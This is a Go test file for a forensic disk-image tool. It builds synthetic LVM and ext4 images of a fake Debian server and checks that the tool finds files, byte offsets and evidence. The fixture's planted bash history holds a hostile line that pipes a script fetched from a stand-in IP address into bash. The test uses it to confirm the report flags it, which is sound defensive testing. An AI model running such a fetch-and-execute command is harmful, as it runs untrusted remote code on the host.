package main

import (
	"archive/tar"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// lvmUUIDs are those of the physical volumes, as LVM2 writes them.
var lvmUUIDs = [2]string{"aaaaaa-aaaa-aaaa-aaaa-aaaa-aaaa-aaaaaa", "bbbbbb-bbbb-bbbb-bbbb-bbbb-bbbb-bbbbbb"}

// lvmDisks writes data as the logical volume lvm:vg0/var over two disks,
// extents of 64 KiB in turn on the one and on the other, behind each other on neither.
func lvmDisks(t *testing.T, data []byte, paths [2]string) {
	t.Helper()
	const extent, start, ring = 64 << 10, 1 << 20, 64 << 10
	n := len(data) / extent
	var segments strings.Builder
	for i := range n {
		fmt.Fprintf(&segments, "segment%d {\nstart_extent = %d\nextent_count = 1\ntype = \"striped\"\nstripe_count = 1\nstripes = [\n\"pv%d\", %d\n]\n}\n", i+1, i, i%2, n-1-i)
	}
	text := fmt.Sprintf("vg0 {\nid = \"cccccc-cccc-cccc-cccc-cccc-cccc-cccccc\"\nseqno = 1\nformat = \"lvm2\"\nstatus = [\"RESIZEABLE\", \"READ\", \"WRITE\"]\nflags = []\nextent_size = %d\nmax_lv = 0\nmax_pv = 0\nmetadata_copies = 0\nphysical_volumes {\n", extent/512)
	for i, id := range lvmUUIDs {
		text += fmt.Sprintf("pv%d {\nid = \"%s\"\ndevice = \"/dev/sd%c\"\nstatus = [\"ALLOCATABLE\"]\nflags = []\ndev_size = %d\npe_start = %d\npe_count = %d\n}\n", i, id, 'b'+i, (start+n*extent)/512, start/512, n)
	}
	text += fmt.Sprintf("}\nlogical_volumes {\nvar {\nid = \"dddddd-dddd-dddd-dddd-dddd-dddd-dddddd\"\nstatus = [\"READ\", \"WRITE\", \"VISIBLE\"]\nflags = []\nsegment_count = %d\n%s}\n}\n}\ncontents = \"Text Format Volume Group\"\nversion = 1\ndescription = \"\"\ncreation_host = \"web01\"\ncreation_time = 1700000000\n\x00", n, &segments)
	le := binary.LittleEndian
	sum := func(b []byte) uint32 { return ^crc32.Update(^uint32(0xf597a6cf), crc32.IEEETable, b) }
	for i, path := range paths {
		b := make([]byte, start+n*extent)
		l := b[512:1024]
		copy(l, "LABELONE")
		le.PutUint64(l[8:], 1)
		le.PutUint32(l[20:], 32)
		copy(l[24:], "LVM2 001"+strings.ReplaceAll(lvmUUIDs[i], "-", ""))
		le.PutUint64(l[64:], uint64(len(b)))
		le.PutUint64(l[72:], start)
		le.PutUint64(l[104:], 4096)
		le.PutUint64(l[112:], ring)
		le.PutUint32(l[16:], sum(l[20:]))
		h := b[4096:4608]
		copy(h[4:], " LVM2 x[5A%r0N*>")
		le.PutUint32(h[20:], 1)
		le.PutUint64(h[24:], 4096)
		le.PutUint64(h[32:], ring)
		le.PutUint64(h[40:], 512)
		le.PutUint64(h[48:], uint64(len(text)))
		le.PutUint32(h[56:], sum([]byte(text)))
		le.PutUint32(h, sum(h[4:]))
		if 512+len(text) > ring {
			t.Fatal("the metadata do not fit")
		}
		copy(b[4096+512:], text)
		for k := range n {
			if k%2 == i {
				copy(b[start+(n-1-k)*extent:][:extent], data[k*extent:])
			}
		}
		if err := os.WriteFile(path, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// makeImage makes an image of files with mke2fs.
func makeImage(t *testing.T, image, size string, files map[string]string, args ...string) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	tool(t, "mke2fs", append(append([]string{"-q", "-F", "-t", "ext4", "-b", "1024", "-O", "^has_journal"}, args...), "-d", dir, image, size)...)
}

// serverFiles are those of a server whose /var is a volume of its own.
func serverFiles() (root, variable map[string]string) {
	var log strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&log, "Nov 14 22:%02d:%02d web01 sshd[%d]: Failed password for root from 192.0.2.%d port 4000 ssh2\n", i/60%60, i%60, i+1, i%250)
	}
	root = map[string]string{
		"etc/hostname": "web01\n", "etc/timezone": "Europe/Berlin\n", "etc/os-release": "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n",
		"etc/passwd": "root:x:0:0:root:/root:/bin/bash\n", "etc/fstab": "LABEL=root / ext4 defaults 0 1\n/dev/mapper/vg0-var /var ext4 defaults 0 2\n/var/www /srv/www none bind 0 0\n",
		"usr/bin/tool": "#!/bin/sh\n", "bin/sh": "", "sbin/init": "", "root/.bash_history": "#1700000000\ncurl -s http://198.51.100.7/x.sh | bash\n", "var/covered": "",
	}
	return root, map[string]string{"log/auth.log": log.String(), "www/index.html": "hello\n"}
}

func deadbox(t *testing.T, want int, args ...string) (stdout, stderr string) {
	t.Helper()
	var out, errs bytes.Buffer
	if code := run(args, strings.NewReader(""), &out, &errs); code != want {
		t.Fatalf("deadbox %q: exit code %d, want %d\n%s", args, code, want, errs.String())
	}
	return out.String(), errs.String()
}

func linesOf[T any](t *testing.T, text string) []T {
	t.Helper()
	var out []T
	for line := range strings.Lines(text) {
		var v T
		if err := json.Unmarshal([]byte(line), &v); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		out = append(out, v)
	}
	return out
}

// TestSeveralImages: a server on three disks, its /var on a logical volume
// that lies on two of them.
func TestSeveralImages(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	root, variable := serverFiles()
	makeImage(t, "sda.dd", "8M", root, "-L", "root")
	makeImage(t, "var.img", "4M", variable)
	data, err := os.ReadFile("var.img")
	if err != nil {
		t.Fatal(err)
	}
	os.Remove("var.img")
	lvmDisks(t, data, [2]string{"sdb.dd", "sdc.dd"})
	disks := map[string][]byte{}
	for _, name := range []string{"sda.dd", "sdb.dd", "sdc.dd"} {
		if disks[name], err = os.ReadFile(name); err != nil {
			t.Fatal(err)
		}
	}
	log := variable["log/auth.log"]

	if out, _ := deadbox(t, exitDone, "cat", "--with", "sdb.dd", "--with", "sdc.dd", "sda.dd", "/var/log/auth.log"); out != log {
		t.Errorf("auth.log has %d bytes, want %d", len(out), len(log))
	}
	if out, _ := deadbox(t, exitDone, "cat", "--with", "sdb.dd", "--with", "sdc.dd", "sda.dd", "/srv/www/index.html"); out != "hello\n" {
		t.Errorf("through the bind mount: %q", out)
	}

	// Each run of the file is where stat says that it is.
	type statLine struct {
		Image, Volume string
		Offset        int64
		Extents       []struct {
			Kind           string
			InFile, Length int64
			In_File        int64
			Offset         *int64
			Image          string
		}
	}
	out, _ := deadbox(t, exitDone, "stat", "--format", "jsonl", "--with", "sdb.dd", "--with", "sdc.dd", "sda.dd", "/var/log/auth.log")
	st := linesOf[statLine](t, out)[0]
	if st.Volume != "lvm:vg0/var" || disks[st.Image] == nil || len(st.Extents) == 0 {
		t.Errorf("stat: %s", out)
	}
	for _, x := range st.Extents {
		if x.Offset == nil || disks[x.Image] == nil {
			t.Errorf("extent %+v", x)
			continue
		}
		// Up to the end of the extent of LVM the bytes stand together.
		n := min(64, int64(len(log))-x.In_File)
		if got := disks[x.Image][*x.Offset:][:n]; string(got) != log[x.In_File:][:n] {
			t.Errorf("at byte %d of %s: %q", *x.Offset, x.Image, got)
		}
	}

	// Every line's evidence begins with the line, in the image that it names.
	deadbox(t, exitFindings, "investigate", "sda.dd", "sdb.dd", "sdc.dd", "-o", "case", "--fail-level", "info")
	records, err := os.ReadFile("case/records.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(log, "\n")
	seen := map[string]int{}
	for _, r := range linesOf[struct{ Evidence jsonEvidence }](t, string(records)) {
		ev := r.Evidence
		if ev.Path != "/var/log/auth.log" || ev.Line == 0 {
			continue
		}
		if ev.Offset == nil || ev.Length <= 0 || *ev.Offset+ev.Length > int64(len(disks[ev.Image])) {
			t.Fatalf("evidence %+v", ev)
		}
		if got := string(disks[ev.Image][*ev.Offset:][:ev.Length]); !strings.HasPrefix(lines[ev.Line-1], got) {
			t.Fatalf("line %d, byte %d of %s: %q", ev.Line, *ev.Offset, ev.Image, got)
		}
		seen[ev.Image]++
	}
	if seen["sdb.dd"] < 500 || seen["sdc.dd"] < 500 || seen["sdb.dd"]+seen["sdc.dd"] != 4000 {
		t.Errorf("lines on each disk: %v", seen)
	}
	var c struct {
		Evidence []struct{ Path, SHA256 string }
		Files    []struct {
			Image, Volume string
			Mount_point   string
		} `json:"file_systems"`
	}
	manifest, err := os.ReadFile("case/case.json")
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(manifest, &c); err != nil {
		t.Fatal(err)
	}
	if len(c.Evidence) != 3 || slices.ContainsFunc(c.Evidence, func(e struct{ Path, SHA256 string }) bool { return len(e.SHA256) != 64 }) {
		t.Errorf("evidence: %+v", c.Evidence)
	}
	if len(c.Files) != 2 || c.Files[0].Volume != "sda.dd:bare" || c.Files[1].Mount_point != "/var" {
		t.Errorf("file systems: %+v", c.Files)
	}

	// The timeline has the files of both, each on its disk.
	out, _ = deadbox(t, exitDone, "timeline", "--format", "jsonl", "sda.dd", "sdb.dd", "sdc.dd")
	for _, want := range []string{`"path":"/etc/passwd"`, `"path":"/var/www/index.html"`, `"image":"sda.dd"`} {
		if !strings.Contains(out, want) {
			t.Errorf("the timeline has no %s", want)
		}
	}
	for row := range strings.Lines(out) {
		if strings.Contains(row, `"path":"/var/www`) && !strings.Contains(row, `"image":"sdb.dd"`) && !strings.Contains(row, `"image":"sdc.dd"`) {
			t.Errorf("on which disk? %s", row)
		}
	}

	// One disk of the group alone: what lies on the other is missing, and said.
	_, stderr := deadbox(t, exitFailed, "cat", "--with", "sdb.dd", "sda.dd", "/var/log/auth.log")
	if n := strings.Count(stderr, "which is missing"); n < 1 || n > 3 {
		t.Errorf("without sdc.dd: %s", stderr)
	}
	_, stderr = deadbox(t, exitUsage, "ls", "--with", "sdb.dd", "--volume", "bare", "sda.dd")
	if !strings.Contains(stderr, "sda.dd:bare, sdb.dd:bare") {
		t.Errorf("an ambiguous volume: %s", stderr)
	}
	if out, _ = deadbox(t, exitDone, "ls", "--with", "sdb.dd", "--volume", "sda.dd:@0", "sda.dd"); !strings.Contains(out, "etc") {
		t.Errorf("by the offset: %s", out)
	}
	deadbox(t, exitUsage, "info", "sda.dd", "./sda.dd")
	for i, name := range []string{"split.001", "split.002"} {
		if err := os.WriteFile(name, disks["sda.dd"][i*4<<20:(i+1)*4<<20], 0o444); err != nil {
			t.Fatal(err)
		}
	}
	if _, stderr = deadbox(t, exitUsage, "info", "split.001", "split.002"); !strings.Contains(stderr, "is a part of") {
		t.Errorf("two segments of one image: %s", stderr)
	}
	if out, _ = deadbox(t, exitDone, "volumes", "sda.dd", "sdb.dd", "sdc.dd"); !strings.Contains(out, "lvm:vg0/var") || strings.Count(out, "No partition table") != 3 {
		t.Errorf("volumes:\n%s", out)
	}
	out, _ = deadbox(t, exitDone, "info", "--format", "jsonl", "sda.dd", "sdb.dd", "sdc.dd")
	var info struct {
		Images  []struct{ Path string }
		Volumes []struct{ Slot, Image string }
	}
	if err := json.Unmarshal([]byte(out), &info); err != nil || len(info.Images) != 3 || len(info.Volumes) != 4 || info.Volumes[0].Image != "sda.dd" {
		t.Errorf("info: %v\n%s", err, out)
	}
}

// TestRootOption: two systems on one server's disks.
func TestRootOption(t *testing.T) {
	t.Chdir(t.TempDir())
	root, _ := serverFiles()
	root["etc/fstab"] = "LABEL=root / ext4\n"
	makeImage(t, "new.dd", "8M", root, "-L", "root")
	root["etc/hostname"], root["etc/fstab"] = "old01\n", ""
	makeImage(t, "old.dd", "8M", root)
	out, _ := deadbox(t, exitDone, "info", "new.dd", "old.dd")
	if !strings.Contains(out, "web01") || !strings.Contains(out, "old.dd:bare of old.dd holds a system of its own") {
		t.Errorf("info:\n%s", out)
	}
	if out, _ = deadbox(t, exitDone, "cat", "--root", "old.dd:bare", "--with", "old.dd", "new.dd", "/etc/hostname"); out != "old01\n" {
		t.Errorf("host name with --root: %q", out)
	}
	_, stderr := deadbox(t, exitUsage, "info", "--root", "nothing", "new.dd")
	if !strings.Contains(stderr, `no volume "nothing"`) {
		t.Error(stderr)
	}
}

// TestTreeSource: a directory and a tarball in place of an image.
func TestTreeSource(t *testing.T) {
	t.Chdir(t.TempDir())
	root, variable := serverFiles()
	root["etc/fstab"] = "LABEL=root / ext4\n"
	delete(root, "var/covered")
	for name, text := range variable {
		root["var/"+name] = text
	}
	var tarball bytes.Buffer
	w := tar.NewWriter(&tarball)
	for name, text := range root {
		p := filepath.Join("host", name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text)), Typeflag: tar.TypeReg, Format: tar.FormatPAX})
		w.Write([]byte(text))
	}
	w.Close()
	if err := os.WriteFile("host.tar", tarball.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	for _, source := range []string{"host", "host.tar"} {
		t.Run(source, func(t *testing.T) {
			if out, _ := deadbox(t, exitDone, "cat", source, "/etc/hostname"); out != "web01\n" {
				t.Errorf("cat: %q", out)
			}
			if out, _ := deadbox(t, exitDone, "ls", source, "/var/log"); !strings.Contains(out, "auth.log") {
				t.Errorf("ls: %s", out)
			}
			if out, _ := deadbox(t, exitDone, "info", source); !strings.Contains(out, "web01") {
				t.Errorf("info: %s", out)
			}
			if out, _ := deadbox(t, exitDone, "volumes", source); !strings.Contains(out, "it has no partitions") {
				t.Errorf("volumes: %s", out)
			}
			if out, _ := deadbox(t, exitDone, "timeline", "--format", "body", source); !strings.Contains(out, "|/etc/passwd|") {
				t.Errorf("timeline: %s", out)
			}
			out := t.TempDir()
			deadbox(t, exitFindings, "investigate", source, "--baseline", source, "-o", filepath.Join(out, "case"), "--fail-level", "info")
			text, err := os.ReadFile(filepath.Join(out, "case", "report.txt"))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(text), "curl -s http://198.51.100.7/x.sh") {
				t.Errorf("the report quotes no line:\n%s", text)
			}
			records, err := os.ReadFile(filepath.Join(out, "case", "records.jsonl"))
			if err != nil {
				t.Fatal(err)
			}
			n := 0
			for _, r := range linesOf[struct{ Evidence jsonEvidence }](t, string(records)) {
				ev := r.Evidence
				if ev.Image != source || ev.Volume != "tree" {
					t.Fatalf("evidence %+v", ev)
				}
				if ev.Path == "/var/log/auth.log" && ev.Line > 0 && ev.Offset != nil && *ev.Offset >= 0 && source == "host.tar" {
					line := strings.Split(variable["log/auth.log"], "\n")[ev.Line-1]
					if got := string(tarball.Bytes()[*ev.Offset:][:ev.Length]); !strings.HasPrefix(line, strings.TrimRight(got, "\n")) {
						t.Fatalf("line %d at byte %d: %q", ev.Line, *ev.Offset, got)
					}
					n++
				}
			}
			if source == "host.tar" && n != 4000 {
				t.Errorf("%d lines have a place in the tarball", n)
			}
		})
	}
	// Nothing is written into a directory that is evidence.
	_, stderr := deadbox(t, exitUsage, "investigate", "host", "-o", "host/case")
	if !strings.Contains(stderr, "evidence") {
		t.Error(stderr)
	}
	_, stderr = deadbox(t, exitUsage, "ls", "-o", "host/list", "host")
	if !strings.Contains(stderr, "evidence") {
		t.Error(stderr)
	}
}
